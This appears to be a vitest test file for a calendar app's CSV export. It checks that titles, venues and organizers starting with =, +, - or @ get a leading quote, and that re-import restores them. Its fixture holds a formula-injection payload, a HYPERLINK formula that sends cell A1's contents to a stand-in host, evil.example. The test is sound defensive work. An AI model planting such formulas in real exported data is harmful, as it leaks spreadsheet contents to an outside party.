/**
 * CSV formula injection (OWASP): a title, organizer or venue from an imported .ics that starts with `=`,
 * `+`, `-` or `@` leaves every CSV we write — `npm run export`, /feeds/all.csv, `Accept: text/csv` — with a
 * leading `'`, and `npm run import` of that file gives the original text back. `--keep-formulas` turns it off.
 */
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { main as exportMain } from '../../src/cli/export.ts';
import { main as importMain } from '../../src/cli/import.ts';
import { openLocalTarget } from '../../src/embedded/local-target.ts';
import { feedSpec } from '../../src/export/feed-spec.ts';
import { decodeEntities } from '../../src/render/text.ts';
import { runCli } from '../e2e/helpers.ts';
import { makeApp, NS } from '../server/harness.ts';
import { tempDir } from '../writer/setup.ts';

const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")';
const ICS = [
  'BEGIN:VCALENDAR',
  'VERSION:2.0',
  'PRODID:-//t//t//EN',
  'BEGIN:VEVENT',
  'UID:evil@formula.test',
  'DTSTAMP:20261101T000000Z',
  'DTSTART;TZID=Europe/Berlin:20261210T190000',
  'DTEND;TZID=Europe/Berlin:20261210T210000',
  `SUMMARY:${EVIL.replaceAll(',', '\\,')}`,
  'LOCATION:@venue',
  'ORGANIZER;CN="+49 Club":mailto:club@example.org',
  'END:VEVENT',
  'END:VCALENDAR',
  '',
].join('\r\n');

let dir: Awaited<ReturnType<typeof tempDir>>;
let data: string;
beforeAll(async () => {
  dir = await tempDir();
  data = join(dir.dir, 'evil.db');
  const file = join(dir.dir, 'evil.ics');
  await writeFile(file, ICS);
  expect((await runCli(importMain, [file, '--data', data])).code).toBe(0);
});
afterAll(() => dir.remove());

const rows = (csv: string): Record<string, string>[] => parse(csv, { columns: true });

describe('CSV export neutralises formula cells', () => {
  it('npm run export writes them with a leading quote, and npm run import reads the original back', async () => {
    const out = join(dir.dir, 'out.csv');
    const run = await runCli(exportMain, ['--data', data, '--format', 'csv', '--out', out]);
    expect(run.code, run.stderr).toBe(0);
    const [event] = rows(await readFile(out, 'utf8'));
    expect(event.event_name).toBe(`'${EVIL}`);
    expect(event.event_venue_name).toBe("'@venue");
    expect(event.event_organizer_name).toBe("'+49 Club");
    expect(rows(await readFile(join(dir.dir, 'out.venues.csv'), 'utf8'))[0].venue_name).toBe("'@venue");
    expect(rows(await readFile(join(dir.dir, 'out.organizers.csv'), 'utf8'))[0].organizer_name).toBe(
      "'+49 Club",
    );

    const back = join(dir.dir, 'back.db');
    expect((await runCli(importMain, [out, '--data', back])).code).toBe(0);
    const target = await openLocalTarget({ dataFile: back });
    try {
      const titles: string[] = [];
      for await (const e of target.list('event')) titles.push(decodeEntities(String(e.body.title)));
      const venues: string[] = [];
      for await (const v of target.list('venue')) venues.push(String(v.body.venue));
      expect(titles).toEqual([EVIL]);
      expect(venues).toEqual(['@venue']);
    } finally {
      await target.close();
    }
  });

  it('--keep-formulas writes the cells as they are', async () => {
    const run = await runCli(exportMain, ['--data', data, '--format', 'csv', '--keep-formulas']);
    expect(run.code, run.stderr).toBe(0);
    expect(rows(run.stdout)[0].event_name).toBe(EVIL);
  });

  it('the server escapes them in /feeds/all.csv and in a list asked for as text/csv', async () => {
    const h = await makeApp({ feeds: [feedSpec({ name: 'all' })] });
    try {
      await h.created('/events', {
        title: EVIL,
        start_date: '2027-03-13 19:00:00',
        end_date: '2027-03-13 22:00:00',
        timezone: 'Europe/Berlin',
      });
      const feed = await h.app.inject({ method: 'GET', url: '/feeds/all.csv' });
      expect(rows(feed.body)[0].event_name).toBe(`'${EVIL}`);
      const list = await h.app.inject({
        method: 'GET',
        url: `${NS}/events?start_date=2027-01-01`,
        headers: { accept: 'text/csv' },
      });
      expect(list.statusCode).toBe(200);
      expect(rows(list.body)[0].event_name).toBe(`'${EVIL}`);
    } finally {
      await h.app.close();
    }
  });
});
